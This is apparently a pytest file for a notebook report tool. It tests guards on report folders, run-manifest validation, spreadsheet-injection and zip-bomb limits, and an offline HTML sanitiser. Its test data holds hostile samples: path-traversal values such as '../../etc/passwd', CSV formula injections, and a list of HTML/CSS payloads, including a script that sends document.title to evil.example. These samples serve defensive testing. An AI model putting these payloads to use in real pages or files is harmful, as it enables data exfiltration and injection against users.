"""Issue 24, the guards of a run: where reports may go (6), run records as validated data (8), the bounds
of user data (9) and the report's offline check (10). The numbers in the section titles are the issue's;
each test failed on the code before the fix.

Planning tests run the real registry and data but never start a kernel (``run_jobs`` fails the test if
called).
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
from pathlib import Path

import pytest

from nq57lib import cli, config, render, report_html, run_record, runner
from nq57lib.errors import ParameterError
from nq57lib.params import validate_parameters


def nq57(*args: str) -> tuple[int, str, str]:
    """The ``nq57`` command in this process; returns (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(list(args))
    return code, out.getvalue(), err.getvalue()


def one_line_naming(code: int, err: str, name: str) -> str:
    lines = err.strip().splitlines()
    assert code == 2 and len(lines) == 1 and f"parameter '{name}'" in lines[0], err
    return lines[0]


# ---------------------------------------------------------------------------------------------
# 6. Reports only under a reports folder: never data/, notebooks/, nq57lib/ or the clone's root

ROOT = config.PROJ_ROOT
TOKEN = "guard"  # fixed: pytest-xdist workers must collect the same test ids
PROTECTED = {  # as given on the command line (relative to the clone) -> the folder the test watches
    "data": ROOT / "data",
    f"data/nq57-test-{TOKEN}": ROOT / "data",
    "notebooks": ROOT / "notebooks",
    f"nq57lib/nq57-test-{TOKEN}": ROOT / "nq57lib",
    ".": ROOT,
}


def snapshot(folder: Path) -> dict[str, float]:
    """Every name directly in ``folder`` and below its subfolders created by runs (what a run would add)."""
    return {str(p.relative_to(folder)): p.stat().st_mtime for p in folder.iterdir()}


@pytest.fixture
def watched(request):
    """The protected folder of the case; whatever a failing (pre-fix) run put there is removed afterwards."""
    folder = PROTECTED[request.param]
    before = set(snapshot(folder))
    yield request.param, folder
    for name in set(snapshot(folder)) - before:  # only what this test created
        path = folder / name
        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()


def _added(folder: Path, before: set[str]) -> set[str]:
    return set(snapshot(folder)) - before


@pytest.mark.parametrize("watched", list(PROTECTED), indirect=True)
def test_run_refuses_a_project_folder_as_reports_dir(monkeypatch, watched):
    given, folder = watched
    before = set(snapshot(folder))
    monkeypatch.chdir(ROOT)
    monkeypatch.setattr(runner, "run_jobs", lambda *a, **k: pytest.fail("a kernel would have started"))
    code, _, err = nq57("run", "--notebook", "budget_floor", "--geo", "vn", "--reports-dir", given)
    line = one_line_naming(code, err, "reports-dir")
    assert "reports folder" in line
    assert _added(folder, before) == set()


@pytest.mark.parametrize("watched", ["data", f"data/nq57-test-{TOKEN}", "."], indirect=True)
def test_render_refuses_a_project_folder_before_reading_anything(monkeypatch, tmp_path, watched):
    given, folder = watched
    before = set(snapshot(folder))
    monkeypatch.chdir(ROOT)
    executed = tmp_path / "out.ipynb"  # never read: the folder is refused first
    code, _, err = nq57("render", str(executed), "--reports-dir", given)
    one_line_naming(code, err, "reports-dir")
    assert _added(folder, before) == set()


@pytest.mark.parametrize("watched", ["data", "notebooks"], indirect=True)
def test_prune_refuses_a_project_folder(monkeypatch, watched):
    given, folder = watched
    before = set(snapshot(folder))
    monkeypatch.chdir(ROOT)
    code, _, err = nq57("prune", "--keep", "1", "--reports-dir", given)
    one_line_naming(code, err, "reports-dir")
    assert _added(folder, before) == set()


@pytest.mark.parametrize("watched", ["data", f"nq57lib/nq57-test-{TOKEN}"], indirect=True)
def test_environment_reports_dir_is_refused_on_every_route(monkeypatch, tmp_path, watched):
    """``NQ57_REPORTS_DIR`` into data/: nq57 run without --reports-dir, the DAG's plan and plain papermill's
    validation cell (whose results would go to NQ57_REPORTS_DIR/scratch/) all refuse it before any work."""
    given, folder = watched
    before = set(snapshot(folder))
    monkeypatch.setattr(config, "REPORTS_DIR", ROOT / given)
    monkeypatch.setattr(runner, "run_jobs", lambda *a, **k: pytest.fail("a kernel would have started"))
    code, _, err = nq57("run", "--notebook", "budget_floor", "--geo", "vn")
    one_line_naming(code, err, "NQ57_REPORTS_DIR")
    with pytest.raises(ParameterError, match="NQ57_REPORTS_DIR"):
        runner.plan_run(["budget_floor"], ["vn"], {}, None)  # the Airflow DAG's plan with no reports_dir
    namespace = {"geo": "vn", "output_dir": "", "_ih": [""]}
    with pytest.raises(ParameterError, match="NQ57_REPORTS_DIR"):
        validate_parameters("scorecard", {**namespace, **{s: v for s, v in _defaults("scorecard").items()
                                                          if s not in namespace}})
    assert _added(folder, before) == set()


def _defaults(notebook: str) -> dict:
    from nq57lib.registry import SPECS

    return {spec.name: spec.default for spec in SPECS[notebook]}


@pytest.mark.parametrize("watched", ["data", "."], indirect=True)
def test_airflow_plan_refuses_a_project_folder(watched):
    given, folder = watched
    before = set(snapshot(folder))
    with pytest.raises(ParameterError, match="reports"):
        runner.plan_run(["budget_floor"], ["vn"], {}, str(ROOT / given))
    assert _added(folder, before) == set()


def test_output_dir_may_not_be_the_clone_root():
    with pytest.raises(ParameterError, match="root"):
        validate_parameters("budget_floor", geo="vn", output_dir=str(ROOT))


def test_a_reports_folder_inside_the_clone_is_fine(tmp_path):
    plan = runner.plan_run(["budget_floor"], ["vn"], {}, tmp_path / "reports")
    assert Path(plan["reports_dir"]) == (tmp_path / "reports").resolve()


# ---------------------------------------------------------------------------------------------
# 8. Run records are data, validated; prune decides from folder names and its own checks

def write_run(reports: Path, folder: str, **changes) -> Path:
    """A finished run with one successful job and its files, as ``nq57 run`` leaves it; ``changes``
    replace manifest fields (``job`` replaces fields of the job)."""
    rel = f"runs/{folder}/budget_floor/vn"
    (reports / rel / "results").mkdir(parents=True)
    for name in ("notebook.ipynb", "report.html"):
        (reports / rel / name).write_text("{}", encoding="utf-8")
    job = {"notebook": "budget_floor", "geo": "vn", "status": "ok", "parameters": {"geo": "vn", "lang": "en"},
           "started_utc": "2026-01-01T00:00:00Z", "finished_utc": "2026-01-01T00:00:05Z", "duration_s": 5.0,
           "executed_notebook": f"{rel}/notebook.ipynb", "report_html": f"{rel}/report.html",
           "results_dir": f"{rel}/results", "error": None, **changes.pop("job", {})}
    manifest = {"schema": run_record.MANIFEST_SCHEMA, "run_id": folder, "runner": "nq57 run",
                "started_utc": "2026-01-01T00:00:00Z", "finished_utc": "2026-01-01T00:00:06Z", "duration_s": 6.0,
                "interrupted": False, "counts": {"ok": 1, "failed": 0, "skipped": 0, "not_run": 0},
                "data": {"version": "1", "checksum": "abc", "extra_files": []}, "overrides": {},
                "jobs": [job], "skipped": [], **changes}
    (reports / "runs" / folder / run_record.MANIFEST_NAME).write_text(json.dumps(manifest), encoding="utf-8")
    return reports / "runs" / folder


RUNS = ("20260101T000000Z-aaaaaa", "20260102T000000Z-bbbbbb", "20260103T000000Z-cccccc")


@pytest.mark.parametrize("changes, field", [
    ({"finished_utc": 5}, "finished_utc"),
    ({"job": {"finished_utc": 5}}, "finished_utc"),
    ({"job": {"parameters": ["lang"]}}, "parameters"),
    ({"run_id": ".."}, "run_id"),
    ({"job": {"report_html": "//evil.example/x.html"}}, "report_html"),
    ({"job": {"results_dir": "https:evil.example"}}, "results_dir"),
    ({"job": {"executed_notebook": "../../etc/passwd"}}, "executed_notebook"),
    ({"counts": {"ok": "1"}}, "counts"),
])
def test_a_manifest_failing_its_schema_is_skipped_with_one_line_and_the_index_rebuilds(tmp_path, capsys,
                                                                                        changes, field):
    reports = tmp_path / "reports"
    write_run(reports, RUNS[0])
    bad = write_run(reports, RUNS[1], **changes)
    run_record.update_index(reports, "now")  # no traceback
    warnings = [line for line in capsys.readouterr().err.splitlines() if "warning" in line]
    assert len(warnings) == 1 and str(bad / run_record.MANIFEST_NAME) in warnings[0] and field in warnings[0], warnings
    index = (reports / "index.html").read_text(encoding="utf-8")
    assert f"Run {RUNS[0]}" in index and RUNS[1] not in index and "evil.example" not in index
    assert [r["run_id"] for r in json.loads((reports / "latest.json").read_text())["reports"]] == [RUNS[0]]


def test_a_later_nq57_run_still_ends_with_a_rebuilt_index(monkeypatch, tmp_path):
    """The issue's case: after a manifest with ``"finished_utc": 5`` every later run ended in a traceback."""
    reports = tmp_path / "reports"
    write_run(reports, RUNS[0], job={"finished_utc": 5})
    monkeypatch.setattr(runner, "execute_batch", lambda jobs, workers, **kw: ([], False))
    code, out, err = nq57("run", "--notebook", "budget_floor", "--geo", "vn", "--reports-dir", str(reports),
                          "--force")
    assert "Traceback" not in err and "index:" in out, err
    assert code == 0 and (reports / "index.html").is_file()


def test_prune_keeps_the_newest_run_when_a_copy_of_it_is_in_runs(tmp_path):
    """``cp -a runs/<newest> runs/0-backup; nq57 prune --keep 1`` deleted the newest (its id came from the copy)."""
    reports = tmp_path / "reports"
    write_run(reports, RUNS[0])  # the latest default report (kept as such)
    for run_id in RUNS[1:]:  # what-if runs (lang vi): the newest is kept by --keep 1 only
        write_run(reports, run_id, job={"parameters": {"geo": "vn", "lang": "vi"}})
    shutil.copytree(reports / "runs" / RUNS[-1], reports / "runs" / "0-backup", symlinks=True)
    code, out, _ = nq57("prune", "--keep", "1", "--reports-dir", str(reports))
    assert code == 0
    left = sorted(p.name for p in (reports / "runs").iterdir())
    assert RUNS[-1] in left and "0-backup" in left  # the newest run and the copy (not a run: not its name) stay
    assert RUNS[0] in left and RUNS[1] not in left


def test_prune_survives_a_dotdot_run_id_and_never_follows_a_link(tmp_path):
    reports = tmp_path / "reports"
    for run_id in RUNS:
        write_run(reports, run_id, job={"parameters": {"geo": "vn", "lang": "vi"}})
    write_run(reports, "20260104T000000Z-dddddd", run_id="..")
    elsewhere = tmp_path / "elsewhere"
    target = write_run(elsewhere, "20251231T000000Z-eeeeee")
    (reports / "runs" / "20251231T000000Z-eeeeee").symlink_to(target, target_is_directory=True)
    code, out, err = nq57("prune", "--keep", "1", "--reports-dir", str(reports))
    assert code == 0 and "Traceback" not in err
    assert (target / run_record.MANIFEST_NAME).is_file() and (reports / "runs" / "20251231T000000Z-eeeeee").is_symlink()
    assert (reports / "runs" / "20260104T000000Z-dddddd").is_dir()  # a run whose manifest is invalid is left alone
    assert (reports / "runs" / RUNS[-1]).is_dir() and not (reports / "runs" / RUNS[0]).exists()
    assert tmp_path.is_dir() and (reports / "runs").is_dir()


def test_prune_never_creates_a_missing_folder(tmp_path):
    missing = tmp_path / "no-such-reports"
    code, _, err = nq57("prune", "--keep", "1", "--reports-dir", str(missing))
    one_line_naming(code, err, "reports-dir")
    assert not missing.exists()


def test_an_index_link_never_leaves_the_reports_folder():
    row = {"notebook": "budget_floor", "geo": "vn", "run_id": RUNS[0], "finished_utc": "", "lang": "en",
           "report_html": "https://evil.example/r.html", "results_dir": "//evil.example", "executed_notebook": None,
           "what_if": False, "differing_parameters": {}, "extra_files": []}
    page = run_record.render_index([], [], [row], "now")
    assert "evil.example" not in page


# ---------------------------------------------------------------------------------------------
# 9. User data bounds

import zipfile  # noqa: E402

import pandas as pd  # noqa: E402

from nq57lib import data_package  # noqa: E402
from nq57lib.errors import DataError  # noqa: E402

from conftest import HEADERS, _obs, write_csv  # noqa: E402


def load(root, **kw):
    return data_package.load_package(root, use_env=False, **kw)


def this_year() -> int:
    return pd.Timestamp.now(tz="UTC").year


@pytest.mark.parametrize("ahead", [2, 5])  # the 2028 and 2031, seen from 2026
def test_an_estimate_for_a_future_year_is_refused_as_a_projection(mini_root, ahead):
    year = this_year() + ahead
    path = write_csv(mini_root / "mine.csv", "observations", [
        _obs("vn", "de_share_pct", year, 40.0, "% of GRDP", concept="nso", status="estimate", source="src-mic",
             published="2023-09")])
    with pytest.raises(DataError, match=rf"mine\.csv row 2 column 'year': estimate figure for {year}, a future "
                                        r"year .*projection"):
        load(mini_root, extra_observations=path)


def test_an_estimate_for_this_year_is_still_accepted(mini_root):
    path = write_csv(mini_root / "mine.csv", "observations", [
        _obs("ha-noi", "grdp_growth_pct", this_year(), 6.5, "% y/y", status="estimate", source="src-press")])
    assert len(load(mini_root, extra_observations=path).observations) > 0


@pytest.mark.parametrize("start", ["\uff1d", "\uff0b", "\uff0d", "\uff20"])  # ＝ ＋ － ＠
def test_fullwidth_formula_starts_are_refused(mini_root, start):
    path = write_csv(mini_root / "mine.csv", "observations", [
        _obs("ha-noi", "grdp_growth_pct", 2023, 6.27, "% y/y", note=f"{start}HYPERLINK(\"https://x.example\")")])
    with pytest.raises(DataError, match=r"mine\.csv row 2 column 'note': text starts with =, \+, -, @ \(or their "
                                        r"fullwidth forms\)"):
        load(mini_root, extra_observations=path)


@pytest.mark.parametrize("control", ["\u202e", "\u202a", "\u2066", "\u2069", "\u200f", "\u061c"])
def test_bidi_controls_are_refused(mini_root, control):
    path = write_csv(mini_root / "mine.csv", "observations", [
        _obs("ha-noi", "grdp_growth_pct", 2023, 6.27, "% y/y", note=f"fine{control}txt.exe")])
    with pytest.raises(DataError, match=r"mine\.csv row 2 column 'note': text contains a control character"):
        load(mini_root, extra_observations=path)


def _workbook(path: Path, rows: list[list]) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "observations"
    sheet.append(HEADERS["observations"])
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _row(**values) -> list:
    obs = _obs("ha-noi", "grdp_growth_pct", 2023, 6.27, "% y/y") | values
    return [obs.get(name, None) for name in HEADERS["observations"]]


def test_excel_formula_cells_are_refused(mini_root):
    path = _workbook(mini_root / "mine.xlsx", [_row(value="=6+0.27")])
    with pytest.raises(DataError, match=r"mine\.xlsx row 2 column 'value': cell E2 is a formula \('=6\+0\.27'\)"):
        load(mini_root, extra_observations=path)


def test_excel_plain_values_still_load(mini_root):
    path = _workbook(mini_root / "mine.xlsx", [_row(value=6.5, year=2024)])
    assert len(load(mini_root, extra_observations=path).observations) > 0


def test_excel_uncompressed_size_is_checked_before_parsing(mini_root, monkeypatch):
    path = _workbook(mini_root / "mine.xlsx", [_row()])
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\0" * (60 * 2**20))  # ~60 KB on disk, 60 MB unpacked
    assert path.stat().st_size < 1_000_000
    monkeypatch.setattr(pd, "read_excel", lambda *a, **k: pytest.fail("the workbook was parsed"))
    with pytest.raises(DataError, match=r"mine\.xlsx: workbook unpacks to 60 MB, above the limit of 50 MB"):
        load(mini_root, extra_observations=path)


def test_a_huge_cell_gets_an_accurate_error(mini_root):
    path = write_csv(mini_root / "mine.csv", "observations", [
        _obs("ha-noi", "grdp_growth_pct", 2023, 6.27, "% y/y", note="x" * (15 * 2**20))])
    with pytest.raises(DataError, match=r"mine\.csv row 2: a cell holds more than 131,072 characters") as caught:
        load(mini_root, extra_observations=path)
    assert "truncated" not in str(caught.value)


# ---------------------------------------------------------------------------------------------
# 10. Offline means offline: every external-load vector refused, the page sanitised; malformed
#     papermill metadata is one line and leaves no run folder

import nbformat  # noqa: E402
import nbformat.v4 as v4  # noqa: E402

VECTORS = {
    "https-without-slashes": '<img src="https:evil.example/x.png">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "svg-image-href": '<svg><image href="https://evil.example/x.png"/></svg>',
    "svg-xlink-href": '<svg><image xlink:href="//evil.example/x.png"/></svg>',
    "base-href": '<base href="https://evil.example/">',
    "inline-script-fetch": '<script>fetch("https://evil.example/?" + document.title)</script>',
    "inline-script": "<script>document.title = 'x'</script>",
    "srcset": '<img src="data:image/png;base64,AAAA" srcset="https://evil.example/x.png 2x">',
    "css-url": '<style>.x { background: url("https:evil.example/x.png") }</style>',
    "css-escaped-url": '<style>.x { background: u\\72l(https://evil.example/x.png) }</style>',
    "css-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-attribute-url": '<div style="background-image: url(//evil.example/x.png)">x</div>',
    "event-handler": '<img src="data:image/png;base64,AAAA" onerror="this.src=\'https://evil.example\'">',
    "iframe": '<iframe src="https:evil.example"></iframe>',
    "object-data": '<object data="https://evil.example/x.swf"></object>',
    "video-poster": '<video poster="https://evil.example/x.png"></video>',
}


def html_output_notebook(html: str):
    """A notebook whose one cell showed ``html`` (as ``display(HTML(...))`` would)."""
    cell = v4.new_code_cell("display(HTML(...))", outputs=[
        v4.new_output("display_data", data={"text/html": html, "text/plain": "<HTML>"})])
    return v4.new_notebook(cells=[v4.new_markdown_cell("# Report"), cell])


@pytest.mark.parametrize("vector", list(VECTORS))
def test_every_external_load_vector_is_refused(vector):
    assert report_html.external_references(VECTORS[vector]), vector
    with pytest.raises(ValueError, match="offline"):
        report_html.notebook_to_html(html_output_notebook(VECTORS[vector]), "t", "")


def test_the_sanitiser_keeps_what_a_report_needs_and_drops_the_rest():
    page = ('<!DOCTYPE html>\n<html lang="vi">\n<head><meta charset="utf-8"><title>T</title>'
            '<meta http-equiv="refresh" content="0"><base href="x/"><script>alert(1)</script></head>'
            '<body class="jp-Notebook"><h1 id="a">T</h1><table><tr><td colspan="2">1</td></tr></table>'
            '<a href="https://example.org/source">source</a><img src="data:image/png;base64,AAAA" alt="fig" '
            'onload="x()"><img src="https:evil.example/x.png"><script>fetch("x")</script>'
            '<svg><image href="https://evil.example/x.png"/></svg><form action="https://evil.example"></form>'
            '</body></html>')
    clean = report_html.sanitise_page(page)
    assert report_html.external_references(clean) == []
    for kept in ('<html lang="vi">', '<meta charset="utf-8">', "<title>T</title>", '<body class="jp-Notebook">',
                 '<h1 id="a">T</h1>', '<td colspan="2">1</td>', '<a href="https://example.org/source">source</a>',
                 '<img src="data:image/png;base64,AAAA" alt="fig">'):
        assert kept in clean, kept
    for dropped in ("refresh", "<base", "<script", "alert", "fetch", "onload", "evil.example", "<svg", "<form"):
        assert dropped not in clean, dropped


def test_a_real_report_page_is_unchanged_in_what_it_shows():
    """A report page of the lab template passes the check, and sanitising keeps its figures, tables and styles."""
    import re

    nb = v4.new_notebook(cells=[v4.new_markdown_cell("# Report\n\n[source](https://example.org/a)"),
                                v4.new_code_cell("t", outputs=[v4.new_output("display_data", data={
                                    "text/html": '<style>.nq57-reader td { color: #333 }</style><table class='
                                                 '"nq57-reader"><tr><th style="text-align: left">a</th><td>1</td>'
                                                 "</tr></table>", "text/plain": "x"}),
                                    v4.new_output("display_data", data={"image/png": "iVBORw0KGgo=",
                                                                        "text/plain": "x"})])])
    page = report_html.notebook_to_html(nb, "t", '<header class="nq57-provenance"><h1>t</h1></header>')
    assert report_html.external_references(page) == []
    assert 'href="https://example.org/a"' in page and "data:image/png;base64,iVBORw0KGgo=" in page
    assert '<th style="text-align: left">a</th>' in page and ".nq57-reader td { color: #333 }" in page
    assert '<header class="nq57-provenance">' in page and len(re.findall("<style", page)) >= 2


def papermill_output(tmp_path: Path, **papermill) -> Path:
    nb = v4.new_notebook(cells=[v4.new_markdown_cell("# Budget"), v4.new_code_cell("1", execution_count=1)])
    nb.metadata["papermill"] = {"input_path": "budget_floor.ipynb", "parameters": {"geo": "vn"},
                                "start_time": "2026-01-01T00:00:00", "end_time": "2026-01-01T00:00:05",
                                "duration": 5.0, "exception": None, **papermill}
    path = tmp_path / "out.ipynb"
    nbformat.write(nb, path)
    return path


@pytest.mark.parametrize("papermill", [
    {"start_time": "not a time"}, {"duration": "fast"}, {"parameters": ["geo", "vn"]}, {"input_path": 5},
    {"end_time": 20260101}, {"exception": "yes"},
])
def test_malformed_papermill_metadata_is_one_line_and_leaves_no_run_folder(tmp_path, papermill):
    reports = tmp_path / "reports"
    code, _, err = nq57("render", str(papermill_output(tmp_path, **papermill)), "--reports-dir", str(reports))
    line = one_line_naming(code, err, "notebook")
    assert "Traceback" not in err and ("malformed papermill metadata" in line or "no papermill metadata" in line)
    assert not [p for p in reports.glob("runs/*") if not (p / run_record.MANIFEST_NAME).exists()]


# ---------------------------------------------------------------------------------------------
# 12. Set-up edges (the rest is in tests/test_setup_edges.py)

def test_a_missing_nq57_kernel_is_a_clear_error_not_a_fall_back(monkeypatch, tmp_path):
    from jupyter_client.kernelspec import KernelSpecManager

    monkeypatch.setattr(runner, "kernel_spec_dirs", lambda: set())
    monkeypatch.setattr(KernelSpecManager, "find_kernel_specs", lambda self: {"python3": "/nowhere/python3"})
    monkeypatch.setattr(runner, "run_jobs", lambda *a, **k: pytest.fail("a kernel would have started"))
    code, _, err = nq57("run", "--notebook", "budget_floor", "--geo", "vn", "--reports-dir", str(tmp_path / "r"))
    line = one_line_naming(code, err, "kernel")
    assert "'nq57' is not installed" in line and "python3" in line  # names what is installed
    assert not (tmp_path / "r").exists()
